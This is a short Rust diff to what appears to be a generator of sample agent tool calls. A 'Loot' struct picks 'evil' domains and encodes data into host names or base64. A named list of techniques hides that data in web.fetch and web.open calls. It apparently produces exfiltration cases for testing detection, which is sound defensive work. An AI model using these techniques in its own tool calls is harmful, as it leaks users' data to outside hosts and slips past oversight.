@@ -22,7 +22,7 @@ pub struct Loot<'a> {
 
 impl Loot<'_> {
     fn evil(&mut self) -> &'static str {
-        *self.random.pick::<&'static str>(&DOMAINS)
+        self.random.pick::<&'static str>(&DOMAINS)
     }
 
     /// The data as labels of a host name.
@@ -103,8 +103,11 @@ fn base64(data: &str) -> String {
     out
 }
 
+/// A way to hide data or a destination in a call.
+pub type Technique = fn(&mut Loot<'_>) -> Call;
+
 /// All techniques, by name.
-pub const ALL: &[(&str, fn(&mut Loot<'_>) -> Call)] = &[
+pub const ALL: &[(&str, Technique)] = &[
     ("address", |loot| ("web.fetch", json!({"url": loot.address()}))),
     ("address in another parameter", |loot| ("web.open", json!({"page": loot.address()}))),
     ("address in prose", |loot| {
